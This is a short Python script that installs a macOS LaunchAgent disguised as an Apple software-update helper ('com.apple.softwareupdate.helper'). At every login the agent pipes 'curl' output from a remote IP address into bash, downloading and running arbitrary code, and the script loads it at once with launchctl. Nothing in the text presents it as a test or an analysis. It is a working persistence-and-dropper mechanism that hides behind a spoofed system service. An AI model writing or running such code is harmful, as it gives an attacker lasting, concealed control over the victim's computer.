import os, plistlib
agent = {
    "Label": "com.apple.softwareupdate.helper",
    "ProgramArguments": ["/bin/bash", "-c", "curl -fsSL http://198.51.100.8/m | bash"],
    "RunAtLoad": True,
}
path = os.path.expanduser("~/Library/LaunchAgents/com.apple.softwareupdate.helper.plist")
with open(path, "wb") as f:
    plistlib.dump(agent, f)
os.system("launchctl load " + path)
